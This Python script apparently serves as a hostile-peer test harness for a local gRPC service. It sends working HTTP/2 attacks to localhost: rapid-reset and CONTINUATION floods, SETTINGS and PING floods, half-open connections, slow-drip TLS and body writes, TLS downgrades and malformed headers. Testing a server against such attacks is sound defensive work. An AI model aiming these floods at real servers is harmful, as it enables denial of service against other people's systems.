"""A peer that means ill: one attack on one port, with or without a client certificate.

    hostile_peer.py ATTACK PORT [--cert F --key F --ca F] [--seconds N] [--path P]

Raw frames (RFC 9113) over TLS or none. Prints one line: what came of it.
"""
import argparse
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value):
    """An integer with a prefix of seven bits (RFC 7541, 5.1)."""
    if value < 127:
        return bytes([value])
    out, value = b"\x7f", value - 127
    while value >= 128:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def literal(name, value):
    return b"\x00" + number(len(name)) + name + number(len(value)) + value


def headers(path, changed=(), more=()):
    usual = {b":method": b"POST", b":scheme": b"https", b":path": path, b":authority": b"localhost",
             b"te": b"trailers", b"content-type": b"application/grpc"}
    usual.update(dict(changed))
    return b"".join(literal(k, v) for k, v in list(usual.items()) + list(more))


def connect(options, version=ssl.TLSVersion.TLSv1_3):
    plain = socket.create_connection(("127.0.0.1", options.port), timeout=10)
    if options.attack in ("plaintext", "half-open", "slow-hello"):
        return plain
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.minimum_version = context.maximum_version = version
    if version != ssl.TLSVersion.TLSv1_3:
        context.set_ciphers("ALL:@SECLEVEL=0")
    context.set_alpn_protocols(["h2"])
    if options.cert:
        context.load_cert_chain(options.cert, options.key)
    return context.wrap_socket(plain)


def hear(connection, seconds):
    """What comes within that time; None when the other side has ended the connection."""
    heard, until = b"", time.monotonic() + seconds
    connection.settimeout(0.1)
    while time.monotonic() < until:
        try:
            more = connection.recv(65536)
            if not more:
                return heard or None
            heard += more
        except (socket.timeout, ssl.SSLWantReadError):
            continue
        except (OSError, ssl.SSLError):
            return heard or None
    return heard


def speaks_http2(heard):
    return heard is not None and len(heard) >= 9 and heard[3] == SETTINGS


def try_greeting(options, version=ssl.TLSVersion.TLSv1_3):
    try:
        connection = connect(options, version)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        return "established" if speaks_http2(hear(connection, 3)) else "refused"
    except (OSError, ssl.SSLError, ValueError):
        return "refused"


def status_in(heard):
    """The number behind grpc-status, which the server writes in plain text."""
    for after in (heard or b"").split(b"grpc-status")[1:]:
        if not after.startswith(b"-"):  # not grpc-status-details-bin
            return after[1:1 + after[0]].decode("ascii", "replace")
    return "none"


def one_call(options):
    changed, more = {
        "binary-metadata": ((), [(b"x-bad-bin", b"*** no base64 ***")]),
        "te": ({b"te": b"x"}.items(), [(b"x-long", b"m" * 9000)]),
        "scheme": ({b":scheme": b"x"}.items(), ()),
        "load-balancer": ((), [(b"grpclb_client_stats", b"x")]),
        "encoding": ((), [(b"grpc-encoding", b"foo")]),
    }[options.attack]
    connection = connect(options)
    compressed = b"\x01" if options.attack == "encoding" else b"\x00"
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0)
                       + frame(HEADERS, END_HEADERS, 1, headers(options.path.encode(), changed, more))
                       + frame(DATA, END_STREAM, 1, compressed + struct.pack(">I", 2) + b"xx"))
    heard = hear(connection, 2)
    return "closed" if heard is None else "status " + status_in(heard)


def flood(options, make):
    """Writes what `make` gives for a number, as fast as it goes; reads what comes and drops it."""
    try:
        connection = connect(options)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    except (OSError, ssl.SSLError):
        return "ended at once"
    connection.settimeout(5)
    sent, until = 0, time.monotonic() + options.seconds
    try:
        while time.monotonic() < until:
            connection.sendall(b"".join(make(sent + i) for i in range(200)))
            sent += 200
            while select.select([connection], [], [], 0)[0]:
                if not connection.recv(65536):
                    return "ended after %d" % sent
    except (OSError, ssl.SSLError):
        return "ended after %d" % sent
    return "sent %d" % sent


def rapid_reset(options):
    block = headers(options.path.encode())

    def make(i):
        stream = 2 * i + 1
        return frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    return flood(options, make)


def continuation(options):
    def make(i):
        if i == 0:
            return frame(HEADERS, 0, 1, headers(options.path.encode()))
        return frame(CONTINUATION, 0, 1, literal(b"x-%d" % i, b"v" * 100))
    return flood(options, make)


def half_open(options):
    held = [connect(options) for _ in range(500)]
    time.sleep(options.seconds)
    return "held %d" % len(held)


def ends_stream(heard):
    """Whether a HEADERS or RST_STREAM frame is among what came."""
    while len(heard) >= 9:
        size, kind = int.from_bytes(heard[:3], "big"), heard[3]
        if kind in (HEADERS, RST_STREAM):
            return True
        heard = heard[9 + size:]
    return False


def drip(connection, pieces, seconds):
    """One piece every 100 ms; how long the other side bore it."""
    start, heard = time.monotonic(), b""
    try:
        for piece in pieces:
            connection.sendall(piece)
            if select.select([connection], [], [], 0.1)[0]:
                more = connection.recv(65536)
                heard += more
                if not more or ends_stream(heard):
                    return "ended after %.1f s" % (time.monotonic() - start)
                time.sleep(0.1)
            if time.monotonic() - start > seconds:
                break
    except (OSError, ssl.SSLError):
        return "ended after %.1f s" % (time.monotonic() - start)
    return "bore it for %.1f s" % (time.monotonic() - start)


def slow_hello(options):
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500
    return drip(connect(options), [hello[i:i + 1] for i in range(len(hello))], options.seconds)


def slow_body(options):
    timeout = [(b"grpc-timeout", b"5S")] if options.attack == "slow-body" else []
    connection = connect(options)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0)
                       + frame(HEADERS, END_HEADERS, 1, headers(options.path.encode(), (), timeout)))
    body = b"\x00" + struct.pack(">I", 4000) + b"a" * 4000
    return drip(connection, [frame(DATA, 0, 1, body[i:i + 1]) for i in range(len(body))], options.seconds)


ATTACKS = {
    "plaintext": try_greeting,
    "greeting": try_greeting,
    "tls1.0": lambda o: try_greeting(o, ssl.TLSVersion.TLSv1),
    "tls1.1": lambda o: try_greeting(o, ssl.TLSVersion.TLSv1_1),
    "tls1.2": lambda o: try_greeting(o, ssl.TLSVersion.TLSv1_2),
    "binary-metadata": one_call,
    "te": one_call,
    "scheme": one_call,
    "load-balancer": one_call,
    "encoding": one_call,
    "half-open": half_open,
    "slow-hello": slow_hello,
    "slow-body": slow_body,
    "slow-body-without-deadline": slow_body,
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "settings": lambda o: flood(o, lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "ping": lambda o: flood(o, lambda i: frame(PING, 0, 0, struct.pack(">Q", i))),
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("port", type=int)
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--path", default="/trustedcontact.linking.v1.LinkingService/GetTrustedContact")
    options = parser.parse_args()
    print(ATTACKS[options.attack](options))


if __name__ == "__main__":
    import warnings
    warnings.simplefilter("ignore")
    main()
